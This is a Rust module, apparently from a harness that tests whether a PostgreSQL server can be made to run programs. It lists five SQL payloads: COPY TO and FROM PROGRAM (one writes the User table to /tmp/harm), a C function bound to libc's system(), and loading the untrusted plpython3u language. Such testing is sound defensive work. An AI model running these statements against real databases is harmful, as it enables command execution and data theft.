//! Has the server run programs.

use attack::{attack, statements};

attack!(|parameters| statements(&parameters, &STATEMENTS));

const STATEMENTS: [(&str, &str); 5] = [
    (
        "a COPY in DO",
        r#"DO $$ BEGIN EXECUTE 'COPY public."User" TO PROGRAM ''cat > /tmp/harm'''; END $$"#,
    ),
    (
        "a COPY from a program in DO",
        "DO $$ BEGIN CREATE TEMPORARY TABLE lines (line text); EXECUTE 'COPY lines FROM PROGRAM ''id'''; END $$",
    ),
    (
        "a plain COPY",
        r#"COPY public."User" TO PROGRAM 'cat > /tmp/harm'"#,
    ),
    (
        "a function in C",
        "CREATE FUNCTION pg_temp.system(cstring) RETURNS int AS 'libc.so.6', 'system' LANGUAGE c",
    ),
    ("an untrusted language", "CREATE EXTENSION plpython3u"),
];
